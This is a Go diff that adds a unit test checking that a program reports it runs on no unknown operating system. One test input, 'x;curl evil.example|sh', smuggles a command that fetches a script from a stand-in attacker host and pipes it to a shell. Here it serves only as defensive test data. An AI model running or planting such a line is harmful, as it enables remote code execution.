@@ -161,6 +161,17 @@ func TestRunsOn(t *testing.T) {
 	}
 }
 
+// A platform's name can be any text of a registry.
+func TestNothingRunsOnAnUnknownSystem(t *testing.T) {
+	t.Parallel()
+	p := Program{Format: ELF, Platforms: []platform.Platform{{Arch: "amd64"}}}
+	for _, os := range []string{"", "x;curl evil.example|sh", "Linux", "plan9"} {
+		if p.RunsOn(platform.Platform{OS: os, Arch: "amd64"}) {
+			t.Errorf("(%s).RunsOn(%q) = true", p, os)
+		}
+	}
+}
+
 func TestString(t *testing.T) {
 	t.Parallel()
 	for want, p := range map[string]Program{
